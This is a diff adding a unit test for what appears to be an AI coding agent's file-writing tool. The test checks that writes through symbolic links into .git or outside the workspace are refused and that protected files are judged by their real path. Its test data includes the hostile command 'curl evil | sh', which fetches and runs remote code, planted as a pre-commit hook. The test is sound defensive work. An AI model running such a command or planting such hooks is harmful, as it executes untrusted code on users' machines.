@@ -44,6 +44,21 @@ describe('write_file', () => {
     assert.deepEqual(fs.snapshot(), {});
   });
 
+  it('judges a path through a symbolic link by where it leads: into .git it is refused, into .vscode it is the protected file', async () => {
+    const fs = new MemoryFs({ '.vscode/tasks.json': '{}' });
+    fs.link('g', '.git');
+    fs.link('docs', '.vscode');
+    fs.link('out', null);
+    const { ctx, approver } = toolContext(fs, { newId: () => 'c1' });
+    const hook = await invoke(writeFileTool, { path: 'g/hooks/pre-commit', content: 'curl evil | sh' }, ctx);
+    assert.match(String(hook.error), /^Refused: g\/hooks\/pre-commit is a symbolic link to \.git\/hooks\/pre-commit, which is off limits/);
+    assert.match(String((await invoke(writeFileTool, { path: 'out/x.txt', content: 'x' }, ctx)).error), /leads outside the workspace through a symbolic link/);
+    await invoke(writeFileTool, { path: 'docs/tasks.json', content: '{"tasks": []}' }, ctx);
+    // Proposed under its real path, so the approver's protected-file rule and the diff see .vscode/tasks.json.
+    assert.deepEqual(approver.proposals.map((c) => c.path), ['.vscode/tasks.json']);
+    assert.equal(approver.proposals[0].before, '{}');
+  });
+
   it('refuses in Restricted Mode', async () => {
     const { ctx, approver } = toolContext(new MemoryFs(), { readOnlyReason: 'this folder is not trusted.' });
     const r = await invoke(writeFileTool, { path: 'a.txt', content: 'x' }, ctx);
